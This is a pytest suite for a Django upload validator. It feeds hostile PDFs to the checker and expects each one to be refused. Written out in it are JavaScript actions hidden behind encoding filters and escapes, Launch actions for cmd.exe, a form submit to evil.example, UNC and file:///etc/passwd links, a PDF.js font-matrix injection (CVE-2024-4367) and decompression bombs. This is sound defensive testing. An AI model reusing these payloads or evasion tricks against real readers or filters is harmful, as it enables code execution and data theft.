"""Active content in uploaded PDFs is found after full decoding, however it is encoded.

Every hostile file here is written byte by byte by tests/resources/pdf_builder.py; each
one's clean twin (the same file without the payload) is accepted, so a refusal means the
payload was found, not that the builder wrote something unreadable.
"""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link

from resources import pdf_check
from resources.files import check_upload
from resources.models import ResourceFile
from tests.resources.builders import png_bytes, upload
from tests.resources.conftest import form_data
from tests.resources.pdf_builder import FLATE_PNG, Pdf, clean_pdf, document, hex_string, stream

JS_ACTION = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HARMLESS_ACTION = "<< /S /GoTo /D [3 0 R /Fit] >>"
JAVASCRIPT = "the PDF contains JavaScript"
SCRIPT_LINK = "the PDF contains a javascript: link"
OPENS_FILES = "opens files on the reader's computer or network"

FILTER_CHAINS = [
    ("FlateDecode",),
    (FLATE_PNG,),
    ("ASCIIHexDecode",),
    ("ASCII85Decode",),
    ("LZWDecode",),
    ("RunLengthDecode",),
    ("ASCII85Decode", "LZWDecode"),
    ("ASCIIHexDecode", FLATE_PNG),
    ("RunLengthDecode", "ASCII85Decode", "FlateDecode"),
]
FILTER_IDS = ["+".join(chain) for chain in FILTER_CHAINS]


def refusal(data, name="report.pdf"):
    with pytest.raises(ValidationError) as error:
        check_upload(upload(name, data))
    message = " ".join(error.value.messages)
    assert message.startswith(f"“{name}” was refused:"), message
    return message


def accepted(data, name="report.pdf"):
    checked = check_upload(upload(name, data))
    assert checked.kind == "pdf"
    return checked


def action_in_object_stream(action, filters):
    """The catalog opens with action 4, which is kept in an object stream encoded with `filters`."""
    return document(catalog_extra="/OpenAction 4 0 R").add_compressed(4, action).build(objstm_filters=filters)


# --- encodings ---


@pytest.mark.parametrize("filters", FILTER_CHAINS, ids=FILTER_IDS)
def test_javascript_in_an_object_stream_is_refused_behind_every_filter(filters):
    assert JAVASCRIPT in refusal(action_in_object_stream(JS_ACTION, filters))


@pytest.mark.parametrize("filters", FILTER_CHAINS, ids=FILTER_IDS)
def test_the_same_object_stream_with_a_harmless_action_is_accepted(filters):
    accepted(action_in_object_stream(HARMLESS_ACTION, filters))


@pytest.mark.parametrize("filters", [("ASCIIHexDecode",), ("LZWDecode",), (FLATE_PNG,)], ids=str)
def test_a_catalog_kept_in_an_object_stream_is_checked(filters):
    pdf = Pdf().add(2, "<< /Type /Pages /Kids [] /Count 0 >>")
    pdf.add_compressed(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>")
    assert "starts programs" in refusal(pdf.build(objstm_filters=filters))


@pytest.mark.parametrize(
    "action",
    [
        "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",  # name escapes
        "<< /#53 /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert\\(1\\)) >>",
        "<< /S /JavaScript /JS <6170702E616C657274283129> >>",  # the script as a hex string
        "<< /S <4A617661536372697074> >>",  # the action type as a hex string where a name belongs
    ],
    ids=["name-escapes", "fully-escaped", "hex-script", "hex-type"],
)
@pytest.mark.parametrize("filters", [("FlateDecode",), ("ASCII85Decode", "LZWDecode")], ids=str)
def test_escaped_names_and_hex_strings_are_decoded(action, filters):
    pdf = document(catalog_extra="/OpenAction 4 0 R").add_compressed(4, action).add(9, "(app.alert\\(1\\))")
    assert JAVASCRIPT in refusal(pdf.build(objstm_filters=filters))


def test_an_action_type_given_by_reference_is_resolved():
    pdf = document(catalog_extra="/OpenAction 4 0 R").add_compressed(4, "<< /S 5 0 R /F (calc.exe) >>")
    pdf.add_compressed(5, "/Laun#63h")
    assert "starts programs" in refusal(pdf.build(objstm_filters=("ASCIIHexDecode",)))


def test_page_additional_actions_that_run_script_are_refused():
    pdf = document(page_extra="/AA << /O 4 0 R >>").add_compressed(4, JS_ACTION)
    assert JAVASCRIPT in refusal(pdf.build(objstm_filters=("RunLengthDecode",)))


def test_objects_left_out_of_the_cross_reference_table_are_checked():
    orphan = b"9 0 obj\n<< /S /URI /URI <6A6176617363726970743A616C657274283129> >>\nendobj\n"
    assert SCRIPT_LINK in refusal(document().build(appended=orphan))


def test_objects_in_an_object_stream_that_the_table_does_not_list_are_checked():
    # Object 9 is inside the object stream (and reached from the page) but the cross-reference stream omits it.
    data = b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    hidden = zlib.compress(data)
    pdf = document(page_extra="/AA << /O 9 0 R >>").add(
        4,
        b"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream"
        % (len(hidden) * 2 + 1, hidden.hex().upper().encode() + b">"),
    )
    assert JAVASCRIPT in refusal(pdf.build())


# --- actions and features ---


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        ("/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>", "starts programs"),
        (
            "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
            "sends what the reader types",
        ),
        ("/OpenAction << /S /ImportData /F (data.fdf) >>", "imports data"),
        ("/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>", OPENS_FILES),
        ("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>", "embedded files"),
        ("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "embedded files"),
        ("/Names << /JavaScript << /Names [(x) 4 0 R] >> >>", JAVASCRIPT),
        ("/AcroForm << /Fields [] /XFA 4 0 R >>", "XFA form"),
    ],
    ids=["launch", "submit-form", "import-data", "gotor", "gotoe", "embedded-files", "js-name-tree", "xfa"],
)
@pytest.mark.parametrize("filters", [("ASCIIHexDecode",), ("LZWDecode", FLATE_PNG)], ids=str)
def test_refused_features_in_the_catalog(extra, reason, filters):
    pdf = Pdf().add(2, "<< /Type /Pages /Kids [] /Count 0 >>").add(4, "<< /Type /Filespec /F (a) >>")
    pdf.add_compressed(1, f"<< /Type /Catalog /Pages 2 0 R {extra} >>")
    assert reason in refusal(pdf.build(objstm_filters=filters))


@pytest.mark.parametrize(
    ("annotation", "reason"),
    [
        ("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>", "rich media"),
        ("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>", "embedded files"),
        ("<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /K " + JS_ACTION + " >> >>", JAVASCRIPT),
    ],
    ids=["rich-media", "file-attachment", "widget-script"],
)
def test_refused_annotations(annotation, reason):
    pdf = document(page_extra="/Annots [4 0 R]").add_compressed(4, annotation)
    assert reason in refusal(pdf.build(objstm_filters=("ASCII85Decode",)))


# --- links ---


def link(uri):
    if isinstance(uri, str):
        uri = uri.encode("latin-1")
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI %s >> >>" % uri
    return document(page_extra="/Annots [4 0 R]").add_compressed(4, annotation)


@pytest.mark.parametrize(
    ("uri", "reason"),
    [
        (hex_string("javascript:alert(1)"), SCRIPT_LINK),
        (b"(\\152\\141vascript:alert\\(1\\))", SCRIPT_LINK),  # octal escapes
        (b"( JaVa\\nScRiPt:alert\\(1\\))", SCRIPT_LINK),  # case, a leading space and a newline inside
        (b"<FEFF006A006100760061007300630072006900700074003A0061>", SCRIPT_LINK),  # UTF-16 with a BOM
        (b"<006A006100760061007300630072006900700074003A0061>", SCRIPT_LINK),  # UTF-16 without one
        (hex_string("vbscript:msgbox(1)"), "vbscript: link"),
        (hex_string("data:text/html,<script>alert(1)</script>"), "data: link"),
        (b"(file:///etc/passwd)", OPENS_FILES),
        (hex_string("FILE:///C:/Windows/System32/calc.exe"), OPENS_FILES),
        (hex_string("\\\\attacker.example\\share\\x"), OPENS_FILES),
        (b"5 0 R", SCRIPT_LINK),  # the target kept in another object
    ],
    ids=[
        "hex",
        "octal",
        "mixed-case-spaces",
        "utf16-bom",
        "utf16",
        "vbscript",
        "data",
        "file",
        "hex-file",
        "unc",
        "ref",
    ],
)
def test_script_and_file_links_are_refused_however_they_are_written(uri, reason):
    pdf = link(uri).add_compressed(5, hex_string("javascript:alert(1)"))
    assert reason in refusal(pdf.build(objstm_filters=("LZWDecode",)))


def test_a_uri_base_and_a_url_file_specification_are_checked():
    base = document(catalog_extra="/URI << /Base " + hex_string("javascript:alert(1)").decode() + " >>").build()
    assert SCRIPT_LINK in refusal(base)
    url_spec = document(catalog_extra="/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /Foo << /FS /URL /F (file:///x) >>")
    assert OPENS_FILES in refusal(url_spec.build())


@pytest.mark.parametrize("uri", ["(https://www.mha.gov.in/)", "(mailto:academy@example.org)", "(#page=2)"])
def test_ordinary_links_are_accepted(uri):
    accepted(link(uri).build(objstm_filters=("FlateDecode",)))


# --- font matrix (PDF.js CVE-2024-4367) ---


def test_a_font_matrix_holding_script_is_refused():
    font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); alert\\(1\\))] >>"
    pdf = document(page_extra="/Resources << /Font << /F1 4 0 R >> >>").add_compressed(4, font)
    assert "malformed font matrix" in refusal(pdf.build(objstm_filters=("ASCIIHexDecode",)))


# --- unreadable, encrypted ---


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7\n" + bytes(range(256)) * 40, clean_pdf()[:60], b"%PDF-1.4\n1 0 obj << /Type /Catalog"],
    ids=["garbage", "truncated", "no-cross-reference"],
)
def test_a_pdf_the_parser_cannot_read_is_refused_with_the_reason(data):
    assert "the PDF is damaged and could not be read" in refusal(data)


def writer_pdf(build):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    build(writer)
    return pdf_bytes(writer)


def pdf_bytes(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_password_protected_pdf_is_refused():
    def locked(writer):
        writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://example.org/"))
        writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")

    assert "protected by a password, so it could not be checked" in refusal(writer_pdf(locked))


def test_an_encrypted_pdf_that_opens_without_a_password_is_decrypted_and_checked():
    def hostile(writer):
        writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="javascript:alert(1)"))
        writer.encrypt(user_password="", owner_password="owner", algorithm="AES-256")

    def harmless(writer):
        writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://example.org/"))
        writer.encrypt(user_password="", owner_password="owner", algorithm="AES-256")

    hostile_pdf = writer_pdf(hostile)
    assert b"javascript" not in hostile_pdf  # the target is encrypted in the file
    assert SCRIPT_LINK in refusal(hostile_pdf)
    accepted(writer_pdf(harmless))


def test_pdfs_written_by_pypdf_with_script_or_attachments_are_refused():
    assert JAVASCRIPT in refusal(writer_pdf(lambda w: w.add_open_action(JavaScript("app.alert(1);"))))
    assert "embedded files" in refusal(writer_pdf(lambda w: w.add_attachment("run.exe", b"MZ")))


# --- resource limits ---


def zlib_bomb(megabytes):
    compressor = zlib.compressobj(9)
    chunk = b" " * 1024 * 1024
    return b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()


def test_a_decompression_bomb_in_an_object_stream_is_refused():
    bomb = zlib_bomb(200)
    assert len(bomb) < 1024 * 1024
    container = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    data = document().add(4, container % (len(bomb), bomb)).build()
    assert "expands to too much data" in refusal(data)


def test_many_streams_within_the_per_stream_limit_are_bounded_in_total(monkeypatch):
    monkeypatch.setattr(pdf_check, "MAX_DECODED_BYTES", 3 * 1024 * 1024)
    pdf = document()
    for number in range(4, 8):  # four object streams of 1 MB each
        pdf.add(number, stream(b"/Type /ObjStm /N 0 /First 0", b" " * 1024 * 1024, ("FlateDecode",)))
    assert "expands to too much data" in refusal(pdf.build())


def test_deeply_nested_arrays_are_refused():
    data = document(catalog_extra="/Deep " + "[" * 50_000 + "]" * 50_000).build()
    assert "was refused" in refusal(data)


def test_an_action_hidden_after_deeply_nested_dictionaries_is_still_found():
    # pypdf stops reading a dictionary nested deeper than Python's recursion limit and keeps what it read:
    # a lenient viewer might read on, so what follows the nesting is still checked.
    nested = "<< /A " * 5_000 + ">> " * 5_000
    data = document(catalog_extra=f"/Deep {nested} /Foo << /URI {hex_string('javascript:x').decode()} >>").build()
    assert SCRIPT_LINK in refusal(data)


def test_too_many_objects_are_refused(monkeypatch):
    monkeypatch.setattr(pdf_check, "MAX_OBJECTS", 50)
    pdf = document()
    for number in range(4, 60):
        pdf.add_compressed(number, "<< /A 1 >>")
    assert "objects to check; split it into smaller files" in refusal(pdf.build())


# --- ordinary PDFs ---


def test_an_ordinary_pdf_is_accepted():
    accepted(clean_pdf())
    accepted(document(catalog_extra="/OpenAction [3 0 R /Fit]").add_compressed(4, "<< /A 1 >>").build())


def test_a_pdf_written_by_weasyprint_with_links_is_accepted():
    from core.pdf import render_pdf

    data = render_pdf(
        "<html lang='en'><head><title>Handout</title></head><body><h1>Handout</h1>"
        "<p>Read the <a href='https://www.mha.gov.in/'>advisory</a>, see <a href='#notes'>the notes</a> or "
        "<a href='mailto:academy@example.org'>write to us</a>.</p><h2 id='notes'>Notes</h2><p>Nothing else.</p>"
        "</body></html>"
    )
    annotations = PdfReader(io.BytesIO(data)).pages[0]["/Annots"]
    targets = {annotation.get_object().get("/A", {}).get("/URI") for annotation in annotations}
    assert "https://www.mha.gov.in/" in targets
    checked = accepted(data, "handout.pdf")
    assert checked.content == data


def test_a_pdf_written_by_pypdf_with_an_https_link_is_accepted():
    accepted(writer_pdf(lambda w: w.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://www.mha.gov.in/"))))


def test_the_uploader_is_told_why_and_keeps_the_other_entries(client, academy, member):
    client.force_login(member)
    hidden = action_in_object_stream(JS_ACTION, ("ASCII85Decode", "LZWDecode"))
    response = client.post(
        "/resources/share/",
        form_data(title="My careful title", files=[upload("ok.png", png_bytes()), upload("handout.pdf", hidden)]),
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "“handout.pdf” was refused: the PDF contains JavaScript" in body
    assert "My careful title" in body
    assert not ResourceFile.objects.exists()
